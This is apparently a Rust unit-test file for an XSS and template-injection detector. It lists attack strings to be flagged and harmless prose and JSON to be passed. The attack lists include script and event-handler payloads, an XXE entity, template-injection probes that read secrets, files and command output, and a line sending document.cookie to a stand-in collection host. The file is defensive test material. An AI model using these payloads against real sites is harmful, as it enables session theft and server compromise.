//! Unit tests of the XSS detector: attacks in many spellings, prose that must stay clean.

use super::js::sink_at;
use super::vocab::SINKS;
use super::*;

fn hit(s: &str) -> Option<Rule> {
    super::super::normalize::on_lowercase(s, detect)
}

#[test]
fn sink_first_letters_are_listed() {
    for sink in SINKS {
        assert!(
            sink_at(&[sink, &b"(1)"[..]].concat()) || sink.ends_with(b"["),
            "{sink:?}"
        );
    }
}

#[test]
fn attacks() {
    for s in [
        "<script>alert(1)</script>",
        "new ActiveXObject",
        "go: new ActiveXObject",
        "<SCRIPT SRC=//evil/x.js>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<body onload = \"go()\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" java\tscript:alert(1)\">x</a>",
        "<iframe src=//evil>",
        "<object data=x.swf>",
        "<embed src=x.swf>",
        "<iframe srcdoc=\"&lt;script&gt;\">",
        "<div style=\"width:expression(alert(1))\">",
        "<base href=//evil/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "\";alert(1)//",
        "'-alert(1)-'",
        "\" onmouseover=\"alert(1)",
        "javascript:alert(document.cookie)",
        "{{constructor.constructor('alert(1)')()}}",
        "alert(1)",
        "<a href=data:text/html;base64,PHNjcmlwdD4=>",
        "<form><button formaction=javascript:alert(1)>x",
        "<math><mtext>x</mtext></math>",
        "<link rel=stylesheet href=//evil.example/a.css>",
        "<a href=\"http://3232235777/\">x</a>",
        "<img src=`x`onerror=alert(1)>",
        "<p style=\"color:expr/**/ession(alert(1))\">",
        "<!DOCTYPE r [<!ENTITY e SYSTEM \"http://evil.example/\">]><r>&e;</r>",
        "<title><img alt=\"</title><img src=x onerror=alert(1)>\"></title>",
        "x=prompt,x(1)",
        "</b onclick=alert(1)>",
        "a=\"ja\"+\"vascript:\"+\"alert(1)\"",
        "x=0||'ev'+'al'",
        "</script><b>",
        "document.createElement('script')",
    ] {
        assert!(hit(s).is_some(), "missed {s:?}");
    }
}

#[test]
fn prose() {
    for s in [
        "Hi; how are you?",
        "I <3 you",
        "5 > 3 and 2 < 4",
        "use <b>bold</b> here",
        "<a href=\"/teams/\">teams</a>",
        "curl --socks4 <host[:port]>",
        "identity<T>(arg: T)",
        "javascript: the good parts",
        "online=true",
        "it's 'one' or 'two'",
        "<<<<<<<<<",
        "<a x=\"",
        "'''''",
        "I said 'eval' and 'uate' twice",
        "the 'java' island and 'script' writing",
    ] {
        assert_eq!(hit(s), None, "flagged {s:?}");
    }
}

#[test]
fn script_without_markup() {
    for s in [
        "document.cookie",
        "q=document.cookie",
        "v = DOCUMENT . COOKIE",
        "document/* a */./* b */cookie",
        "(document)['cookie']",
        "(window.document)[\"cookie\"]",
        "new Image().src='//collect.example/?c='+document.cookie",
        "window.location='//other.example'",
        "self.location",
        "top.location.href = 'https://other.example/'",
        "u=document.domain",
        "document.getElementById('main').innerHTML = '<b>hi</b>'",
        "document.body.appendChild(document.createElement('div'))",
        "document.write('x')",
        "parent['ev'+'al']('1')",
        "top[\"\\x65val\"]('2')",
        "window[atob('ZXZhbA==')]('3')",
        "[].map.call`${prompt}7`",
        "[ ] . forEach . apply ` ${ confirm } 9 `",
        "Reflect.apply.call``",
        "x = new Function('return 1')",
        "NEW   FUNCTION ( )",
        "(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]",
        "import {a, b} from '../lib/x.js';",
        "import('https://cdn.example/m.js')",
        "';eval(name)//",
        "\"+confirm(2)+\"",
    ] {
        assert!(hit(s).is_some(), "missed {s:?}");
    }
}

#[test]
fn templates() {
    for s in [
        "{{request.args.next}}",
        "{{ request.environ }}",
        "{{config.items()}}",
        "{{ CONFIG['SECRET_KEY'] }}",
        "{{6*6}}",
        "{{ 13 * '3' }}",
        "{{ ''.__class__.__mro__[1] }}",
        "{{ lipsum.__globals__ }}",
        "{{self._TemplateReference__context}}",
        "${T(java.lang.System).getenv()}",
        "${8*8}",
        "#{3*3}",
        "*{T(java.lang.Runtime)}",
        "${product.getClass()}",
        "{% include request.GET.page %}",
        "{% extends tpl %}",
        "{% import subprocess %}",
        "{% for c in [].__class__.__base__ %}{% endfor %}",
        "<%= File.open('/etc/hosts').read %>",
        "<%= `id` %>",
        "<%= 9*9 %>",
        "<#assign x=\"freemarker.template.utility.ObjectConstructor\"?new()>",
        "#set($r = $x.class)",
        "<!--#exec cmd=\"ls\" -->",
        "<!--#include virtual=\"/etc/hosts\"-->",
    ] {
        assert!(hit(s).is_some(), "missed {s:?}");
    }
}

#[test]
fn crs_style_shapes_in_other_spellings() {
    for s in [
        "  onpointerrawupdate= ",
        "'onmouseleave=",
        "a=b:url( javascript",
        "<p style=\"b:url('vbscript\">",
        "\"formaction=//evil.example",
        "42<s c r i p t",
        "<i f r a m e src=x>",
        "<:vmlframe x=1",
        "<scriptsrc=//evil.example/a.js>",
        "java\tscript: ",
        "vb\nscript: ",
        "javascript:\\u0061lert(1)",
        "<link href=a.js rel=stylesheet type=text/javascript>",
        "<style>@\\69mport 'x'</style>",
        "<meta http-equiv=\"refresh\" content=\"1; //other.example",
        "<base href=\"//other.example/",
    ] {
        assert!(hit(s).is_some(), "missed {s:?}");
    }
}

#[test]
fn chat_and_api_json_stay_clean() {
    for s in [
        "Hello {{name}}, your order {{ order.id }} shipped",
        "{{ user.name | upper }} joined {{ channel }}",
        "{% if user %}hi{% endif %}",
        "{% include 'header.html' %}",
        "price: ${amount} (${currency})",
        "echo ${HOME} and #{id}",
        "I <3 my cat <3",
        "a < b > c",
        "**bold** and *{italic}*",
        "use <b>bold</b>, <i>italic</i> and `code` in markdown",
        "set the cookie domain in the config",
        "the location of the document is /docs/index.html",
        "window.open is blocked by the popup blocker, see docs",
        "{\"user.name\":\"jane.doe\",\"email\":\"jane.doe@example.com\",\"url\":\"https://example.com/a.b\"}",
        "{\"document\":{\"cookie\":false},\"location\":\"Berlin\",\"domain\":\"example.org\"}",
        "{\"self\":\"https://api.example.com/users/7\",\"top\":[1,2,3],\"window\":[\"a\",\"b\"]}",
        "{\"config.items\":3,\"request.id\":\"abc-123\",\"app.version\":\"1.2.3\"}",
        "see self['name'] in the python docs",
        "self['alert_level'] = 3",
        "onboarding=",
        "{{ object.title }} by {{ this.author }} for {{ product.name }}",
        "{{ app.version }} / {{ session.user }}",
        "import os from the standard library",
        "import numpy as np",
        "call `fn.call` then `fn.apply`",
        "my template: <%= user.name %>",
        "ratio 7*7 = 49 and {{ 'x' }}",
        "[x] done [ ] todo !!",
        "<!-- a comment -->",
        "online= yes",
        "javascript: the good parts",
        "on the form: f o r m",
        "{\"name\":\"Valeria\",\"role\":\"alerts\",\"type\":\"eva\",\"tag\":\"lucky\"}",
    ] {
        assert_eq!(hit(s), None, "flagged {s:?}");
    }
}

#[test]
fn mutated_forms_are_still_caught() {
    // Each base form with other names, numbers, case, spacing and quotes.
    for (base, names) in [
        ("{{request.X.y}}", ["args", "form", "cookies"]),
        ("document.Y", ["cookie", "COOKIE", "Cookie"]),
        ("[].X.call`${alert}1`", ["sort", "map", "filter"]),
        ("{% include request.X.t %}", ["GET", "POST", "args"]),
    ] {
        for name in names {
            let s = base.replace(['X', 'Y'], name);
            assert!(hit(&s).is_some(), "missed {s:?}");
            let spaced = s.replace('.', " . ");
            if !s.starts_with('{') {
                assert!(hit(&spaced).is_some(), "missed {spaced:?}");
            }
            assert!(hit(&s.to_uppercase()).is_some(), "missed {s:?} uppercased");
        }
    }
}

#[test]
fn hostile_bytes_never_panic() {
    // A small deterministic generator (xorshift) over the bytes the rules start from.
    let alphabet = b"<>/'\"`{}%#$*[]().=!+-:;\\ \t\nabcdefghijklmnopqrstuvwxyz0123456789";
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    for _ in 0..4000 {
        let mut s = Vec::new();
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        let len = (x % 64) as usize;
        for _ in 0..len {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            s.push(alphabet[(x % alphabet.len() as u64) as usize]);
        }
        let _ = detect(&s, Marks::of(&s), RuleFilter::ALL);
    }
    for s in [
        &b"{{"[..],
        b"{%",
        b"${",
        b"<%",
        b"<#",
        b"<!--#",
        b"[",
        b".",
        b"document.",
        b"`",
        b"/*",
        b"*/.",
        b"x/**/[",
        b"import",
        b"new function",
        b"\"f",
    ] {
        let _ = detect(s, Marks::of(s), RuleFilter::ALL);
    }
}

#[test]
fn every_rule_is_catalogued_and_can_be_switched_off() {
    for s in ["document.cookie", "{{7*7}}", "<script>x</script>"] {
        let rule = hit(s).expect(s);
        assert!(RULES.iter().any(|r| r.id == rule), "{rule} not catalogued");
        let off = [rule];
        let view = s.to_ascii_lowercase();
        let view = view.as_bytes();
        let again = detect(view, Marks::of(view), RuleFilter::without(&off));
        assert_ne!(again, Some(rule));
    }
}

#[test]
fn jump_names_every_punctuation_trigger() {
    let listed: Vec<usize> = PUNCTUATION_TRIGGERS
        .iter()
        .map(|&b| usize::from(b))
        .collect();
    for (b, &is_trigger) in TRIGGER_PUNCTUATION.iter().enumerate() {
        assert_eq!(is_trigger, listed.contains(&b), "byte {b:#x}");
    }
}

#[test]
fn every_jump_finds_what_the_table_finds() {
    // Views holding few and many trigger kinds, scanned with the jump their marks give and
    // with the table test at every byte: same verdict.
    let views: &[&[u8]] = &[
        b"plain words only",
        b"a, b - c, d",
        b"x <b>bold</b>, y",
        b"say \"hi\" <i>x</i> {a} $b #c *d",
        b"\xbcscript\xbe, done",
        b"\"><img src=x onerror=alert(1)>",
        b"a - b: c, <script>",
        b"x' onmouseover=alert(1) '",
    ];
    for view in views {
        let marks = crate::inspect::normalize::marks(view);
        let letters = marks.any(LETTER_RULE_MARKS) || new_activex(view);
        let trigger = if letters {
            &TRIGGER
        } else {
            &TRIGGER_PUNCTUATION
        };
        let jumped = Scanner::new(view, trigger, jump_for(letters, marks), RuleFilter::ALL).run();
        let table = Scanner::new(view, trigger, Jump::Table, RuleFilter::ALL).run();
        assert_eq!(jumped, table, "{}", String::from_utf8_lossy(view));
    }
    assert_eq!(jump_for(false, Marks::of(b"ab, cd")), Jump::One(b','));
    assert_eq!(jump_for(false, Marks::of(b"words")), Jump::Nowhere);
    assert_eq!(jump_for(false, Marks::of(b"\xe9t\xe9")), Jump::Nowhere);
    assert_eq!(jump_for(true, Marks::of(b"a=b")), Jump::Table);
}
